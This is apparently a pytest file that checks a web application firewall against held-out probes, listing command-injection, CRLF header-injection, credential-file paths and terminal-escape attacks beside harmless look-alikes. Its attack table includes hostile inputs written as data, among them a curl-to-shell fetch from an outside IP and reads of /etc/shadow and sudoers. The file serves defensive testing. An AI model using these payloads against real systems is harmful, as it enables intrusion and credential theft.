"""WAF, part 2h: held-out probes, sixth file (README: the fifth round),
written for this file on 2026-12-02 BEFORE any rule was changed for them (no string taken
from a corpus or a public list), through the real edge (shipped config,
bans off). Each class is a shape the development corpora's misses or the
external corpus's false positives name, written here in other shapes:

- pipe-cell: a command between two pipes as the whole value ("|id|"):
  the pipes are the shell's; a markdown table is only a table with a
  delimiter row ("|---|") or with two cells at least, and its cells are
  bounded by "|", which is no shell argument of the word before it;
- crlf-label: a line break then "Name: value" in a value with no line
  break of its own (a query value, an escape in JSON): after nothing or
  after one argument-like token it is a header injected whatever the
  name; after text ("Meeting notes", then "Status: done") only HTTP's
  own header names (and x-...) make it one, as in a multi-line body;
- prompt-transcript: a shell prompt ("$ make") is no command (a lone "$"
  is a word a shell cannot run, the line runs nothing), and the line
  after a Python prompt line (">>> x.exists()", then "True") is its
  output, not a command after an argument-like token; a separator after
  the prompt still starts a command ("$ ;id");
- package-etc: the etc directory of an installed package's prefix
  (/usr/local/<pkg>/etc/, /opt/<pkg>/etc/, /usr/pkg/etc/) is the OS's
  /etc for that package (its settings and credentials), and a web
  server's log by its name (thttpd_log, nginx_log) at the end of a path
  is what log poisoning includes, as access_log is.
Each with look-alikes a public API receives (markdown tables, multi-line
notes typed into a search box, doctest transcripts, package paths in
prose, change logs). Later batches, each written before its change, took
the external corpus's false-positive classes (documentation's own markup
read as code: reST literals and roles, a bin path with its description,
paths in code spans, GNU's `quotes', brace lists in usage lines, Make's
$(VAR), a product named with its version after a ";").

Measured before each change: first batch 10 of 27 attacks passed and 12
of 26 look-alikes were refused; second 1 of 23 and 19 of 22; third 0 of 5
and 5 of 5; fourth 0 of 4 and 2 of 5; fifth 0 of 6 and 4 of 4. After
them: every attack refused and every look-alike passes, but the strict
xfails below (the fifth batch's four look-alikes among them: its change
was dropped).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. For crlf-label the escapes are the
attacker's own (sent as written, and encoded once more; the JSON body
carries them as text); its look-alikes carry real line breaks (a search
box's textarea sends them encoded once).

A probe the edge gets wrong is listed in KNOWN_MISSES or
KNOWN_FALSE_POSITIVES with the reason, and runs as a strict xfail: it
fails the suite the day it starts to pass, so the list stays true."""

import pytest

from wafkit import (WafEdge, assert_passes_everywhere,  # noqa: F401
                    assert_refused_everywhere, assert_tables_balanced,
                    no_lua_errors, probe_cases, probe_placements, session,
                    waf_config)

CONF = waf_config()

ATTACKS = {
    "pipe-cell": [
        "|id|", "| pwd |", "|hostname|", "| uptime |", "|ps|", "|id -u|",
        "x7|pwd|",
    ],
    "crlf-label": [
        "%0d%0aInjected-By: probe", "en%0d%0aX-Cache-Key: poisoned",
        "q7%0aStatus: 302", "%0aSet-Cookie:uid=0", "42%0d%0aRefresh: 0;url=/x",
        "page%0d%0aVary:*", "Hello world%0d%0aLocation: //a.test/",
        # (written after the first change, before the second: mail's own
        # headers and SMTP's commands after text, which the first change
        # let through)
        "Thanks for the order%0aBcc: list@a.test",
        "hi there%0d%0aMAIL FROM:<a@b.test>%0d%0aRCPT TO:<c@d.test>",
        "Great product%0aSubject: you won",
    ],
    "prompt-transcript": [
        "$ ;id", "$ || uname -a", "10.0.0.8\nwhoami", "x;$0 -c id",
        "ok\n$SHELL -c pwd", "7\nid",
    ],
    "package-etc": [
        "/usr/local/nagios/etc/htpasswd.users", "/opt/bitnami/etc/secrets.conf",
        "/usr/pkg/etc/sudoers", "/opt/zabbix/etc/zabbix_server.conf",
        "/srv/site/logs/lighttpd_log", "/home/web/logs/nginx_log",
        "htdocs/logs/error_log",
    ],
    # second batch, written after the first batch's changes and before
    # any of its own (2026-12-02): documentation's own markup read as code
    "rest-literal": [
        "prompt``", "parent.alert``", "x.call`1`", "obj.run`${top.alert(1)}`",
    ],
    "bin-path-line": [
        "/bin/cat /etc/shadow", "/bin/sh -c id", "x;/usr/bin/id",
        "/usr/bin/curl -s http://203.0.113.9/x | sh",
    ],
    "code-span-path": [
        "`/etc/shadow`", "x`cat /etc/hosts`", "a;cat `echo /etc/passwd`",
    ],
    "gnu-quote": [
        "`id`", "1`whoami`", "x;`id`", "q `uname -a`",
    ],
    "brace-position": [
        "{cat,/etc/passwd}", ";{id,}", "a|{uname,-a}", "$({whoami,})",
    ],
    "make-var": [
        "$(whoami)", "x$(uname)", "$(sleep 5)", "$(nproc)",
    ],
    # written after the second batch's first version lost attacks of these
    # shapes on the CRS and external corpora (a brace list with a word
    # glued after it, a bin path alone on its line between quotes, a
    # split CR/LF escape before a header), together with the repair and
    # only measured after it (so they show the repair holds on other
    # commands, quotes and headers than those cases, not that they failed
    # before)
    "brace-glued": ["{wh,}oami", ";{/usr/bin/i,}d", "a|{unam,-}e"],
    "bin-path-alone": ["'\n/bin/uname\n'", "\"\n/usr/bin/whoami\n\"", "x;\n/sbin/ifconfig\n"],
    "crlf-split-header": ["x%%0a0aLocation: //a.test", "/%%0d0aRefresh: 0"],
    # third batch, written before its change (2026-12-02): a product named
    # with its version after a ";", "&" or "|" in a sentence
    "version-in-prose": [
        "a b; nc 10.0.0.1 4444", "we said; python3 -c 'import os'",
        "x y z; gcc -o /tmp/x x.c", "hi there; whoami", "it works & curl 2 -o x",
    ],
    # fourth batch, written before its change (2026-12-02): reST's
    # interpreted text (":role:`x`") and references ("`text <url>`_")
    "rest-role": [":x:`id`", "1:x:`whoami`", "`id`_", "a;:cmd:`uname -a`"],
    # fifth batch, written before its change (2026-12-02): terminal
    # sequences that move, erase, retitle or hide, beside colours
    "terminal-style": [
        "\x1b[2J", "x\x1b[1A\x1b[2Kfake line", "\x1b]0;owned\x07", "ok\x1b[8mhidden",
        "\x1b[30;40msecret", "\x1b[1m\x1b[3Dover",
    ],
}

BENIGN = {
    "pipe-cell": [
        "| id | name |\n|----|------|\n| 1 | pwd |",
        "| id | uptime | hostname |",
        "|---|---|\n| pwd | prints the working directory |",
        "Use a | b to send one program's output to another.",
        "||id||name||",
        "Pick one: red | green | blue",
    ],
    "crlf-label": [
        "Meeting notes\nStatus: done\nOwner: Ana\nNext: ship it",
        "What: the old flag\nWhy: nobody used it",
        "See the docs\nhttps://example.com/docs for more",
        "Ingredients:\nflour: 200 g\nsugar: 50 g",
        "Trip to Lisbon\nCheck-in: 3 pm\nCheck-out: 11 am",
        "Dear team,\nRe: the invoice from March",
        "Agenda\n1. intro\nTime: 10:00",
        "Forwarded message\nFrom: Ana\nTo: the team",
    ],
    "prompt-transcript": [
        ">>> cfg.exists()\nTrue",
        ">>> s.isdigit()\nFalse\n>>> t.isdigit()\nTrue",
        "    >>> p = Path('/tmp/x')\n    >>> p.is_dir()\n    True",
        "$ ./configure\n$ make\n$ sudo make install",
        "$ make test",
        "$ git status\nOn branch main",
        ">>> len(items)\n3\n>>> items.pop()\n'id'",
    ],
    "package-etc": [
        "The service reads /opt/app/etc/app.conf at start-up.",
        "/usr/local/share/doc/app/README",
        "etc/app.conf.example",
        "docs/change_log",
        "Moved the change_log into docs/ last week.",
        "/api/v1/logs/event_log",
    ],
    "rest-literal": [
        "The ``setup.py`` file is read first.",
        "Use ``os.path.join`` to build paths.",
        "Set ``sys.path`` before the import.",
        "reST marks literals with double backticks: ``x.y``.",
    ],
    "bin-path-line": [
        "/usr/bin/foo-helper\n    Helper program that converts the files.",
        "/usr/sbin/add-user-helper NAME",
        "/usr/libexec/app/helper --version prints the version",
        "/usr/bin/pinentry-tty is the text prompt.",
    ],
    "code-span-path": [
        "Edit `/etc/hosts` and add the name.",
        "The list is kept in `/var/lib/app/state` between runs.",
        "Read `/proc/meminfo' for the totals.",
    ],
    "gnu-quote": [
        "Type `make' to build, then `make install'.",
        "The `ls' command lists files.",
        "Run `./configure' first, then `make'.",
    ],
    "brace-position": [
        "Usage: tool [-h] {start,stop,status}",
        "Choose one of {red,green,blue}.",
        "{heap,stack}-buffer overflows",
        "--shell {bash,zsh,fish}",
    ],
    "brace-glued": ["{heap,stack}-buffer overflows (see {asan,msan}.md)",
                    "Files: {a,b}.txt", "{x,y}_axis labels"],
    "bin-path-alone": ["/usr/bin/app-helper\n    Converts the files.",
                       "Install it to\n/usr/bin/\nand restart."],
    "crlf-split-header": ["up 10%\n0a1b2c is the commit", "Rate: 5%\n0day fixes"],
    "version-in-prose": [
        "Version 5 is common to GCC 3.2 and 3.3; GCC 3.3 ships it.",
        "We moved the service to MySQL 8.0; Python 3.12 is next.",
        "Tested on Debian 12 & Docker 24.0 with the defaults.",
        "It needs Node 20 | npm 10 at least.",
        "Old builds used Clang 14; gcc 13, since March.",
    ],
    "terminal-style": [
        "\x1b[1mman-db\x1b[0m - the manual pager",
        "Build \x1b[32mOK\x1b[0m in 3 s",
        "\x1b[1;31merror:\x1b[0m file not found",
        "\x1b[38;5;208mwarn\x1b[39m: disk at 91%",
    ],
    "rest-role": [
        "Install it with :pypi:`pip` first.",
        "See :func:`os.system` for the details.",
        "Read `the guide <https://example.com/guide>`_ before you start.",
        "The :command:`make` target builds it.",
        "Links: `Docs`__ and `Changelog`_.",
    ],
    "make-var": [
        "Copy it to include/$(ARCH)/config.h",
        "Set CFLAGS=$(OPT) in the Makefile.",
        "Search $(srcdir)/lib for headers",
        "The tarball is app-$(VERSION).tar.gz",
    ],
}

# Classes whose escapes are the attacker's own (sent as written, and
# encoded once more), see the docstring.
ESCAPED = {"crlf-label", "crlf-split-header"}
# Control bytes reach the application as bytes once decoded; encoded
# twice they reach it as "%1B[...", text (protocol-terminal reads the value
# as decoded once, as test_31_waf_detect_heldout_r4's format classes do).
ONCE_ONLY = {"terminal-style"}

KNOWN_MISSES = {
    "htdocs/logs/error_log": "a relative path to a server log has the shape of "
                             "\"logs/access_log\", which test_31_waf_detect_heldout "
                             "keeps as a look-alike (a mention): absolute paths only",
}
KNOWN_FALSE_POSITIVES = {
    **{v: "a colour sequence alone is log injection here: it forges what a "
          "log viewer shows (a red ERROR); test_31_waf_detect_protocol "
          "requires \"Roses are ESC[31mred\" to block, and a change that "
          "let colours through was tried and dropped (2026-12-02)"
       # (the bold of a manual page, the first look-alike, passes since
       # test_31_waf_detect_heldout_r8's terminal-emphasis: emphasis only,
       # no colour)
       for v in ("Build \x1b[32mOK\x1b[0m in 3 s",
                 "\x1b[1;31merror:\x1b[0m file not found",
                 "\x1b[38;5;208mwarn\x1b[39m: disk at 91%")},
    # ("Forwarded message\nFrom: Ana\nTo: the team" was one, a query's
    # mail headers, until mail header injection was read as the header
    # block's grammar: addresses in headers, 2026-12-04)
}


ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-heldout-r6"), CONF).start()
    yield e
    e.stop()


def statuses(session, edge, cls, value):
    """query (once and twice URL-encoded) and JSON body."""
    keep = "%+" if cls in ESCAPED and value in ATTACKS[cls] else ""
    return probe_placements(session, edge, value, keep,
                            once_only=cls in ONCE_ONLY)


def test_tables_are_balanced():
    # every class has attacks and look-alikes, and none is both
    assert_tables_balanced(ATTACKS, BENIGN)


@pytest.mark.parametrize("cls,value", ATTACK_CASES)
def test_heldout_r6_attack_refused_everywhere(edge, session, cls, value):
    got = statuses(session, edge, cls, value)
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", BENIGN_CASES)
def test_heldout_r6_benign_passes(edge, session, cls, value):
    got = statuses(session, edge, cls, value)
    assert_passes_everywhere(got, cls, value)
